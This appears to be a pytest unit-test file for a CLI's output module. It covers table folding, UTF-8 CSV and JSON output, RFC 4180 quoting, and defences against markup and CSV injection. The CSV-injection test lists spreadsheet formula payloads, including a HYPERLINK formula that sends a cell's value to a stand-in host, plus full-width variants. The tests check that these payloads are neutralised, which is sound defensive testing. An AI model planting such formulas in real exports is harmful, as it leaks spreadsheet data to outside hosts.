"""The commands' tables never shorten a cell to "…": ids stay whole, other cells fold, and a
table whose ids leave the others too little room is printed wider than the terminal."""

import codecs
import csv
import io
from datetime import UTC, datetime

import pytest
from rich.console import Console

from caravan import output
from caravan.ops import dlq as ops_dlq
from caravan.ops.dlq import DeadLetter
from tests.unit.conftest import Caravan

SKUS = ["SWN-PEPPER-CAYENNE-1KG", "SWN-PEPPER-POWDER-250G"]
COUNTERS = ["received", "available", "reserved", "sold", "spoiled", "sellable", "expired_unsold"]


def shown(table: object, width: int) -> str:
    console = Console(width=width, record=True, file=io.StringIO())
    output.show(table, console)  # type: ignore[arg-type]
    return console.export_text()


def stock(width: int) -> str:
    table = output.table("sku", *COUNTERS, whole=("sku",), right=COUNTERS)
    for sku in SKUS:
        table.add_row(sku, *("12345" for _ in COUNTERS))
    return shown(table, width)


@pytest.mark.parametrize("width", [80, 120, 200])
def test_ids_stay_whole_on_one_line_and_no_cell_is_cut_short(width: int) -> None:
    text = stock(width)
    assert "…" not in text
    assert all(len(line) <= width for line in text.splitlines())
    for sku in SKUS:
        assert sum(sku in line for line in text.splitlines()) == 1
    # Folded or not, no digit of a figure is lost.
    digits = sum(c.isdigit() for c in text) - sum(c.isdigit() for c in "".join(SKUS))
    assert digits == len(SKUS) * len(COUNTERS) * len("12345")


def test_ids_that_leave_the_other_columns_no_room_make_the_table_wider() -> None:
    letter = "orders.requests.v1.dlq:2:4711"
    table = output.table("id", "origin", "error", "message", whole=("id", "origin"))
    table.add_row(letter, letter, "not_cloudevent", "source: Field required; time: Field required")
    text = shown(table, 40)
    assert "…" not in text
    assert sum(letter in line for line in text.splitlines()) == 1  # both ids on one line
    assert max(len(line) for line in text.splitlines()) > 40
    assert "not_" in text and "sour" in text  # the other columns still show


def test_a_table_made_wider_leaves_the_console_reading_the_terminal_s_width(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Rich keeps a width once set: setting back the width read then fixed it for every
    later print of the process (a narrower table after it, a test after it)."""
    monkeypatch.delenv("COLUMNS", raising=False)
    console = Console(file=io.StringIO())  # its width read from COLUMNS at each print
    monkeypatch.setenv("COLUMNS", "40")
    letter = "orders.requests.v1.dlq:2:4711"
    table = output.table("id", "origin", whole=("id", "origin"))
    table.add_row(letter, letter)
    output.show(table, console)
    monkeypatch.setenv("COLUMNS", "120")
    assert console.width == 120


def test_a_whole_or_right_column_must_be_one_of_the_headers() -> None:
    with pytest.raises(ValueError, match="no column 'id'"):
        output.table("sku", "sold", whole=("id",))


def test_what_the_commands_print_is_never_read_as_markup() -> None:
    """A dead letter's error names the record's ``type``, which its sender chose."""
    table = output.table("error", "message", title="[bold]1[/] dead letter(s)")
    table.add_row("unknown_type", "'order.[/]' is not an event; [parameters: ('x',)]")
    with output.console.capture() as captured:
        output.show(table)
        output.console.print("[red]refused:[/red] [/]")
    text = captured.get()
    assert "'order.[/]' is not an event; [parameters: ('x',)]" in text
    assert "[bold]1[/] dead letter(s)" in text and "[red]refused:[/red] [/]" in text


@pytest.mark.parametrize(
    ("text", "chars", "said"),
    [
        ("the value is empty (0 bytes)", 80, "the value is empty (0 bytes)"),
        (
            "the value is not JSON: trailing comma at line 1 column 8",
            40,
            "the value is not JSON: trailing comma…",
        ),
        ("not JSON: unexpected end of data at line 1 column 22", 26, "not JSON: unexpected end…"),
        ("sellers.phone_e164_check violated", 20, "sellers.phone_e164_…"),  # no space: cut
    ],
)
def test_a_text_is_shortened_at_a_word(text: str, chars: int, said: str) -> None:
    assert output.shortened(text, chars) == said
    assert len(said) <= chars


def test_dlq_list_shows_a_reason_whole_where_there_is_room(
    caravan: Caravan, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It cut ``dlq.error.message`` at 60 characters, mid-word ("... at line 1 colum"), then
    at 80 however wide the terminal; it is cut to the room left (at 80 columns:
    tests/unit/test_cli_tables.py)."""
    reason = (
        "the value is not JSON: unquoted text at line 1 column 1"
        " (JSON leaves only true, false and null unquoted)"
    )
    letter = DeadLetter(
        "orders.requests.v1.dlq",
        0,
        7,
        datetime(2026, 12, 4, 12, 0, tzinfo=UTC),
        b"SWN-1",
        b"not json",
        {
            "dlq.error": "not_json",
            "dlq.error.message": reason,
            "dlq.group": "caravan-orders",
            "dlq.partition": "0",
            "dlq.offset": "41",
        },
    )

    async def letters(bootstrap: str) -> list[DeadLetter]:
        return [letter]

    monkeypatch.setattr(ops_dlq, "read", letters)
    monkeypatch.setenv("COLUMNS", "300")  # room for the reason on the row's first line
    code, out, err = caravan("dlq", "list")
    assert code == 0, err
    row = next(line for line in out.splitlines() if letter.ref in line)
    assert row.split("│")[3].strip() == reason, row


def test_a_table_piped_keeps_every_cell_whole_on_its_lines(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``caravan stuck | cat`` squeezed its table to 80 columns, the source folded to
    ``stor/efro/nt/w/alk``: a pipe (no terminal, no ``COLUMNS``) wants wider lines instead."""
    monkeypatch.delenv("COLUMNS", raising=False)
    piped = Console(file=io.StringIO(), record=True)
    assert not piped.is_terminal
    table = output.table("order", "ref", "source", "placed", "why", whole=("order", "placed"))
    order, placed = "0193a1b2-7c3d-7e4f-8a9b-0c1d2e3f4a51", "2026-12-04T12:00:05+00:00"
    table.add_row(order, "SHAWAN-20261204-0001", "storefront/walk", placed, "")
    table.add_row(order, "SHAWAN-2", "storefront/walk", placed, output.Clipped("a reason " * 20))
    output.show(table, piped)
    text = piped.export_text()
    lines = text.splitlines()
    assert sum("storefront/walk" in line for line in lines) == 2, text
    assert any(("a reason " * 20).strip() in line for line in lines), text  # not clipped
    assert max(len(line) for line in lines) > 80, text
    monkeypatch.setenv("COLUMNS", "100")  # a width asked for is kept to
    asked = Console(file=io.StringIO(), record=True)
    output.show(table, asked)
    assert max(len(line) for line in asked.export_text().splitlines()) <= 100


def csv_printed(capsysbinary: pytest.CaptureFixture[bytes], *rows: dict[str, object]) -> str:
    """What ``--csv`` prints of ``rows`` under the fields ``id``, ``fen`` and ``at``, read as
    a spreadsheet reads it: its bytes decoded as UTF-8 after their byte-order mark."""
    output.as_csv(("id", "fen", "at"), rows)
    return capsysbinary.readouterr().out.decode("utf-8-sig")


def test_csv_is_utf8_after_a_byte_order_mark_for_excel(
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    """Excel on a Chinese-locale PC reads a CSV without a byte-order mark as GBK: a seller's
    id or a reason in Chinese came out as mojibake. The file's first bytes are UTF-8's mark,
    then the CSV in UTF-8, a Chinese text whole when read back as Excel reads it."""
    seller, reason = "沙湾辣椒合作社", "到货时已变质，退款"
    output.as_csv(("id", "fen", "at"), [{"id": seller, "fen": 4200, "at": reason}])
    printed = capsysbinary.readouterr().out
    assert printed.startswith(codecs.BOM_UTF8), printed[:16]
    whole = f'"id","fen","at"\r\n"{seller}",4200,"{reason}"\r\n'
    assert printed == codecs.BOM_UTF8 + whole.encode(), printed
    read = list(csv.DictReader(io.StringIO(printed.decode("utf-8-sig"), newline="")))
    assert read == [{"id": seller, "fen": "4200", "at": reason}], read


def test_csv_is_utf8_whatever_stdouts_encoding(monkeypatch: pytest.MonkeyPatch) -> None:
    """A server whose locale is not UTF-8 (stdout in ISO 8859-1) writes the same bytes: a
    Chinese id crashed its text stdout, which cannot encode it."""
    written = io.BytesIO()
    monkeypatch.setattr("sys.stdout", io.TextIOWrapper(written, encoding="latin-1"))
    output.as_csv(("id",), [{"id": "农户-0001"}])
    assert written.getvalue() == codecs.BOM_UTF8 + '"id"\r\n"农户-0001"\r\n'.encode()


def test_json_is_utf8_whatever_stdouts_encoding(monkeypatch: pytest.MonkeyPatch) -> None:
    """--json as --csv (above): UTF-8 on a server whose locale is not, where a Chinese buyer
    id crashed the command (UnicodeEncodeError) before anything was printed."""
    written = io.BytesIO()
    monkeypatch.setattr("sys.stdout", io.TextIOWrapper(written, encoding="latin-1"))
    output.as_json({"buyer_id": "农户-0001"})
    assert written.getvalue() == '{\n  "buyer_id": "农户-0001"\n}\n'.encode()


def test_csv_quotes_every_text_and_leaves_numbers_bare(
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    """RFC 4180 (CRLF, a quote doubled, a comma or a line break inside quotes), a text quoted
    even without them (a spreadsheet that splits on ";" keeps "a;b" one cell), fen bare."""
    printed = csv_printed(
        capsysbinary,
        {"id": 'b-1, "the shop"\non two lines', "fen": 4200, "at": "2026-12-07T02:21:00+00:00"},
        {"id": "a;b", "fen": -500, "at": None, "kept": "not a field"},
        {"id": "older-server", "fen": 0},  # a field it lacks: empty
    )
    assert printed == (
        '"id","fen","at"\r\n'
        '"b-1, ""the shop""\non two lines",4200,"2026-12-07T02:21:00+00:00"\r\n'
        '"a;b",-500,""\r\n'
        '"older-server",0,""\r\n'
    )
    read = list(csv.DictReader(io.StringIO(printed, newline="")))
    assert read[0] == {
        "id": 'b-1, "the shop"\non two lines',
        "fen": "4200",
        "at": "2026-12-07T02:21:00+00:00",
    }
    assert [row["fen"] for row in read] == ["4200", "-500", "0"]


FULL_WIDTH = ['\uff1dHYPERLINK("http://x/?"&A1)', "\uff0b1+1", "\uff0d2-3", "\uff20SUM(A1)"]
"""The full-width ＝＋－＠ a Chinese input method types, at a text's start."""


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "+1+1",
        "-2-3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        *FULL_WIDTH,
    ],
)
def test_csv_writes_a_text_a_spreadsheet_would_compute_as_text(
    capsysbinary: pytest.CaptureFixture[bytes], text: str
) -> None:
    """OWASP's CSV Injection: a text that begins with = + - @, a tab, a carriage return or a
    line feed, or with a full-width one of the four (U+FF1D, U+FF0B, U+FF0D, U+FF20: Excel
    in an East Asian locale reads them as the half-width ones), after a "'", which a
    spreadsheet shows and does not compute; a number is not touched."""
    printed = csv_printed(capsysbinary, {"id": text, "fen": -5, "at": f"x{text}"})
    (row,) = csv.DictReader(io.StringIO(printed, newline=""))
    assert row == {"id": f"'{text}", "fen": "-5", "at": f"x{text}"}


def test_csv_of_no_rows_is_its_header_alone(capsys: pytest.CaptureFixture[str]) -> None:
    output.as_csv(("id", "fen"), [], left=None)
    captured = capsys.readouterr()
    assert (captured.out, captured.err) == ('\ufeff"id","fen"\r\n', "")


def test_csv_says_on_stderr_what_limit_left_out(capsys: pytest.CaptureFixture[str]) -> None:
    title = output.listed_title(1, "loan(s)", True)
    output.as_csv(("id",), [{"id": "l-1"}], left=title)
    captured = capsys.readouterr()
    assert captured.out == '\ufeff"id"\r\n"l-1"\r\n'
    assert captured.err == "the newest 1 loan(s): more with a higher --limit\n"


def test_csv_and_json_together_are_refused() -> None:
    output.one_output(as_json=True, as_csv=False)
    output.one_output(as_json=False, as_csv=True)
    with pytest.raises(output.OperatorError) as refused:
        output.one_output(as_json=True, as_csv=True)
    assert (str(refused.value), refused.value.exit_code) == ("--csv or --json, not both", 2)
